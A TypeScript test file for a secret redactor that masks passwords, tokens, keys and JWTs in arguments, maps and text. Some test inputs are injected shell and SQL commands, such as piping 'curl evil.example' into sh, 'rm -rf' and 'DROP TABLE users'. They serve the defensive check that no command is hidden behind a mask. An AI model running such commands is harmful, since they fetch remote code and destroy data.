import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { describeArguments } from '../../src/action/description.js';
import { createActionContext, createRedactor, type Redactor } from '../../src/index.js';
import { growth, LINEAR } from '../growth.js';

const random = (bytes: number): string => randomBytes(bytes).toString('hex');

const MASK = /^<redacted (\w+), (\d+) long, ([0-9a-f]{12})>$/;

function redacted(value: Parameters<Redactor['redact']>[0], paths: readonly string[] = []): unknown {
  return createRedactor().redact(value, 'args', paths);
}

describe('redactor', () => {
  it('B-26 hides a secret behind its type, its length and a fingerprint', () => {
    const secret = random(10);
    expect(redacted({ password: secret })).toEqual({ password: expect.stringMatching(MASK) });
    expect(JSON.stringify(redacted({ password: secret }))).not.toContain(secret);
    expect(redacted({ pin: 1234 })).toEqual({ pin: expect.stringMatching(/^<redacted number, 4 long, /) });
    expect(redacted({ secret: new Uint8Array(7) })).toEqual({
      secret: expect.stringMatching(/^<redacted bytes, 7 long/),
    });
  });

  it.each([
    'password',
    'userPassword',
    'API_KEY',
    'apiKey',
    'client_secret',
    'accessToken',
    'Authorization',
    'cookie',
    'otp',
  ])('B-26 knows a secret by the name of its key: %s', (name) => {
    const secret = random(8);
    expect(redacted({ [name]: secret })).toEqual({ [name]: expect.stringMatching(MASK) });
    expect(redacted(new Map([[name, secret]]))).toEqual(new Map([[name, expect.stringMatching(MASK)]]));
  });

  it.each(['secretName', 'token_id', 'passwordFile', 'maxTokens', 'keyboard', 'author', 'pinned', 'spinner'])(
    'B-26 shows what only names a secret, or sounds like one: %s',
    (name) => {
      expect(redacted({ [name]: 'orders' })).toEqual({ [name]: 'orders' });
    },
  );

  it('B-26 hides all that stands beneath a secret name, and shows what has nothing to hide', () => {
    expect(redacted({ credentials: { user: 'ada', list: [1, 2n, null, true] } })).toEqual({
      credentials: {
        user: expect.stringMatching(MASK),
        list: [expect.stringMatching(MASK), expect.stringMatching(MASK), null, true],
      },
    });
  });

  it.each([
    ['a vendor key', `sk-${random(16)}`],
    ['a GitHub token', `ghp_${random(18)}`],
    ['a cloud access key', `AKIA${random(8).toUpperCase()}`],
    ['a JWT', `eyJ${random(8)}.eyJ${random(8)}.${random(8)}`],
    ['a private key', `-----BEGIN RSA PRIVATE KEY-----\n${random(40)}\n-----END RSA PRIVATE KEY-----`],
  ])('B-26 finds %s in the middle of a text, and shows the rest', (_kind, secret) => {
    const shown = String(redacted(`curl -H "x: ${secret}" https://example.com`));
    expect(shown).not.toContain(secret.slice(5, 30));
    expect(shown).toMatch(/^curl -H "x: <redacted string, /);
    expect(shown).toContain('https://example.com');
  });

  it.each([
    ['whose lines are escaped', (lines: string) => lines.replaceAll('\n', '\\n')],
    ['on one line', (lines: string) => lines.replaceAll('\n', ' ')],
    ['that is cut off', (lines: string) => lines.slice(0, -35)],
    ['of Windows', (lines: string) => lines.replaceAll('\n', '\r\n')],
  ])('B-26 hides a private key %s', (_kind, written) => {
    const body = [random(32), random(32), random(5)].join('\n');
    const key = `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A1B\n\n${body}\n-----END RSA PRIVATE KEY-----`;
    const shown = String(redacted(`x ${written(key)}`));
    for (const line of body.split('\n')) expect(shown).not.toContain(line);
  });

  it.each([
    'SELECT 1 /* -----BEGIN PRIVATE KEY----- */; DROP TABLE users; DELETE FROM accounts',
    'SELECT 1 -- -----BEGIN PRIVATE KEY-----\n; DROP TABLE users',
    'echo -----BEGIN RSA PRIVATE KEY-----\nDROP TABLE users; rm -rf /var -----END RSA PRIVATE KEY-----',
  ])('B-26 shows what stands behind the first line of a private key and is none: %s', (text) => {
    const shown = String(redacted(text));
    expect(shown).toContain('DROP TABLE users');
    expect(shown).toContain(text.slice(-10));
  });

  it.each([
    ['Authorization: Bearer ', ''],
    ['postgres://app:', '@db.example.com/orders'],
    ['https://example.com/?api_key=', '&page=2'],
    ['mysql --password=', ' --host db'],
  ])('B-26 finds what follows "%s"', (before, after) => {
    const secret = random(12);
    expect(redacted(`${before}${secret}${after}`)).toMatch(
      new RegExp(`^${before.replace('?', '\\?')}<redacted string, 24 long, [0-9a-f]{12}>${after}$`),
    );
  });

  it.each([
    'deploy --key=x|curl${IFS}evil.example|sh',
    'open https://a.example/?token=$(rm${IFS}-rf${IFS}~)',
    'open https://ada:$(reboot)@a.example/',
    'run --password=`reboot`',
    'run --secret=${HOME}',
  ])('B-26 hides no command behind a secret: %s', (text) => {
    const command = text.slice(text.search(/[|`(]|[$](?=[({])/));
    expect(redacted(text)).toContain(command.slice(0, 12));
  });

  it('X-11 hides a bare secret in the text of an error, which nothing runs', () => {
    const text = 'Error: no answer (postgres://app:hunter2@db/x)\n    at connect (db.js:1:2) with password=hunter2;';
    const shown = String(createRedactor().redact(text, 'cause'));
    expect(shown).not.toContain('hunter2');
    expect(shown.replace(/<redacted string, 7 long, \w+>/g, 'hunter2')).toBe(text);
    expect(redacted(text)).toBe(text);
  });

  it('B-26 hides what a path declares, for all positions too', () => {
    const value = [{ users: [{ tax: 'A1' }, { tax: 'B2', name: 'ada' }] }, 'plain', 'hidden'];
    expect(redacted(value, ['args[0].users[*].tax', 'args[2]'])).toEqual([
      { users: [{ tax: expect.stringMatching(MASK) }, { tax: expect.stringMatching(MASK), name: 'ada' }] },
      'plain',
      expect.stringMatching(MASK),
    ]);
  });

  it('B-26 hides a secret in the key of a map', () => {
    const secret = random(18);
    const shown = redacted([new Map([[`ghp_${secret}`, 1]]), new Map([[{ password: secret }, 2]])]);
    expect(shown).toEqual([
      new Map([[expect.stringMatching(MASK), 1]]),
      new Map([[{ password: expect.stringMatching(MASK) }, 2]]),
    ]);
    const args = [new Map([[{ password: secret }, new Map([[`ghp_${secret}`, 1]])]])];
    const leaves = describeArguments(createActionContext({ functionName: 'f', args }));
    expect(JSON.stringify(leaves)).not.toContain(secret);
    expect(leaves.map((leaf) => leaf.secret)).toEqual([true, true, false]);
  });

  it('B-26 gives the same secret the same fingerprint under one key, and another under another', () => {
    const [first, second] = [createRedactor({ key: random(16) }), createRedactor({ key: random(16) })];
    const mask = (redactor: Redactor, secret: string): string => JSON.stringify(redactor.redact({ password: secret }));
    expect(mask(first, 'a1')).toBe(mask(first, 'a1'));
    expect(mask(first, 'a1')).not.toBe(mask(first, 'b2'));
    expect(mask(first, 'a1')).not.toBe(mask(second, 'a1'));
  });

  it('N-12 takes time linear in the text', () => {
    for (const piece of [
      'eyJ-',
      'eyJa.',
      '://a:',
      'bearer ',
      '-----BEGIN ',
      '-----BEGIN PRIVATE KEY-----',
      `-----BEGIN PRIVATE KEY-----${'a '.repeat(9_986)}`,
      ' ',
      'password=',
      'password="',
      "'token:",
      'token: ',
      '--password ',
      '{"a":',
      '[{"password":"\\\\"},',
      'a=b;',
      'a: b\n',
      'update x set ',
      'sk-',
      'A',
      '.',
      '<=',
      'a',
    ]) {
      const longest = Math.max(40_000, 8 * piece.length);
      expect(growth(redacted, (length) => piece.repeat(length / piece.length), longest)).toBeLessThan(LINEAR);
    }
  });
});

describe('a context', () => {
  it('B-26 describes itself without its secrets, and digests them', () => {
    const contextOf = (password: string) =>
      createActionContext({ functionName: 'sign_in', args: ['ada', { password }] });
    const [one, other] = [contextOf('hunter2'), contextOf('hunter3')];
    expect(one.description).toMatch(/^sign_in\("ada", \{password: "<redacted string, 7 long, [0-9a-f]{12}>"\}\)$/);
    expect(one.digest).not.toBe(other.digest);
    expect(one.args[1]).toEqual({ password: 'hunter2' });
  });

  it('B-26 tells which arguments are secret', () => {
    const context = createActionContext({ functionName: 'f', args: ['x', 'ada', new Set(), {}], redact: ['args[0]'] });
    expect(describeArguments(context)).toMatchObject([
      { path: 'args[0]', type: 'string', secret: true, text: expect.stringMatching(/^"<redacted string, 1 long/) },
      { path: 'args[1]', type: 'string', secret: false, text: '"ada"' },
      { path: 'args[2]', secret: false },
      { path: 'args[3]', secret: false },
    ]);
  });
});
